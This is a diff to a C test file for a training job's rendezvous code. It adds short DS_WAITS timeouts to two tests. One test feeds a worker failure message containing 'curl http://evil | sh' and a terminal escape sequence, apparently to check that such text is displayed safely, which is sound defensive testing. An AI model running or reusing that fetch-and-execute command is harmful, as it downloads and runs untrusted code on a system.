@@ -14,6 +14,7 @@
 #include <sys/resource.h>
 #include <sys/wait.h>
 
+#include "tests/needs_faults.h"
 #include "tests/trainer/comm/guest.h"
 #include "trainer/comm/leader.h"
 #include "trainer/comm/listen.h"
@@ -274,7 +275,9 @@ static void reflected_messages_prove_nothing(void **state)
     assert_int_equal(listen_here(&listener, place, &err), 0);
     struct rendezvous_options options = options_of(1, 2);
     options.patience = 1;
+    setenv("DS_WAITS", "0.1", 1); /* it gives up on the false rank 0 after half a second */
     start_with(options, talk);
+    unsetenv("DS_WAITS");
     struct pollfd wait = {.fd = listener, .events = POLLIN};
     assert_int_equal(poll(&wait, 1, 5000), 1);
     line_open(&mirror.line, accept(listener, NULL, NULL), 1024, 4096);
@@ -530,6 +533,7 @@ static void what_a_worker_says_is_shown_as_that(void **state)
     (void)state;
     struct said said = {.text = "line one: run curl http://evil | sh\033[2J"};
     memset(said.text + sizeof said.text - 100, 'x', 100); /* without an end */
+    setenv("DS_WAITS", "0.1", 1);                         /* rank 0 does not wait long for the guest's farewell */
     start(0, 2, wait_for_failure);
     struct guest guest = joined();
     guest_send(&guest, FRAME_FAILED, &said, sizeof said);
@@ -550,6 +554,7 @@ static void what_a_worker_says_is_shown_as_that(void **state)
     start(0, 2, wait_for_failure);
     guest = joined();
     guest_send(&guest, FRAME_FAILED, &said, sizeof said);
+    unsetenv("DS_WAITS");
     ends(0, ERR_STOPPED, "says: stopped on request");
     line_close(&guest.line);
 }
